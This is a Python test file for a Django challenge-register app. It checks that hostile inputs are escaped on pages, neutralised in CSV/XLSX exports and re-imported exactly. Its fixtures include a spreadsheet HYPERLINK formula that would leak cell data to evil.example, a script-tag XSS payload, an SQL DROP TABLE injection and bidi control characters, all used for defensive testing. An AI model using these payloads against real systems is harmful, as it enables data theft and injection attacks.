"""Hostile text in a challenge: stored exactly, shown as text on the pages, never run as a
formula by a spreadsheet opening the internal export (which the importer reads back exactly),
and an internal spreadsheet is made even when the text holds characters XML cannot."""

import csv
import io

import openpyxl

from challengelog.importing.services import import_file
from challengelog.register.models import Challenge

S = "/staff/southampton"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
HOSTILE = {
    "text": FORMULA,
    "to_as_recorded": "@SUM(1+1)",
    "raised_by_as_recorded": "<script>alert('x')</script>",
    "meeting_as_recorded": "+44 Board\u202e\u200b",
    "action": "-1; DROP TABLE register_challenge; --\x0b",
}


def _hostile():
    Challenge.objects.filter(reference="144").update(**HOSTILE)


def test_pages_show_hostile_text_as_text(as_user):
    _hostile()
    page = as_user("chair").get(f"{S}/log/144/").text
    assert "<script>alert('x')</script>" not in page
    assert "&lt;script&gt;alert(&#x27;x&#x27;)&lt;/script&gt;" in page
    assert Challenge.objects.get(reference="144").text == FORMULA  # stored exactly


def test_the_internal_export_never_runs_a_formula_and_reads_back_exactly(as_user):
    _hostile()
    client = as_user("chair")
    data = client.get(f"{S}/export.csv").content
    rows = {r["No"]: r for r in csv.DictReader(io.StringIO(data.decode("utf-8-sig")))}
    assert rows["144"]["Challenge"] == "'" + FORMULA
    assert rows["144"]["To"] == "'@SUM(1+1)"
    assert rows["144"]["Action"].startswith("'-1;")
    book = openpyxl.load_workbook(io.BytesIO(client.get(f"{S}/export.xlsx").content))
    cells = {row[0].value: row for row in book.active.iter_rows(min_row=2)}
    challenge = cells["144"][3]
    assert challenge.data_type == "s"  # a string, not a formula
    assert challenge.value == "'" + FORMULA
    assert "\x0b" not in cells["144"][7].value  # dropped: XML cannot hold it
    # The CSV imported into a new partnership gives back the text as it was.
    report = import_file(name="export.csv", data=data, partnership="copy")
    assert report.ok, report.problems
    copy = Challenge.objects.get(partnership__slug="copy", reference="144")
    assert copy.text == FORMULA
    assert copy.to_as_recorded == "@SUM(1+1)"
